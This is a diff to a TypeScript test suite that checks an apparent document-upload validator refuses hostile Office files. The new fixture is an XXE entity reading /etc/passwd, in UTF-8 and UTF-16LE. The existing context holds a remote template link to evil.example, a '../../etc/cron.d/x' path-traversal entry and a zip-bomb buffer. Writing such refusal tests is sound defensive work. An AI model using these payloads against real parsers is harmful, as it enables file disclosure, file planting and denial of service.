@@ -98,6 +98,10 @@ const exe = Buffer.concat([
 ])
 const template =
   '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+const withEntity = (encoding: BufferEncoding) => ({
+  name: 'xl/styles.xml',
+  content: Buffer.from('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', encoding),
+})
 const many = (entries: number) =>
   Array.from({ length: entries }, (_, index) => ({ name: `word/part${index}.xml`, content: `${index}` }))
 const zeros = Buffer.alloc(30_000_000)
@@ -199,6 +203,8 @@ describe('refuses', () => {
       () => makeDocx([{ name: '../../etc/cron.d/x', content: 'x' }]),
       'documents.active',
     ],
+    ['an entity that names a file', 'xlsx', () => makeXlsx([withEntity('utf8')]), 'documents.active'],
+    ['one in the other encoding', 'xlsx', () => makeXlsx([withEntity('utf16le')]), 'documents.active'],
     ['a bomb', 'docx', () => makeDocx([{ name: 'word/a.xml', content: zeros }]), 'documents.too-complex'],
     [
       'a bomb that lies about its size',
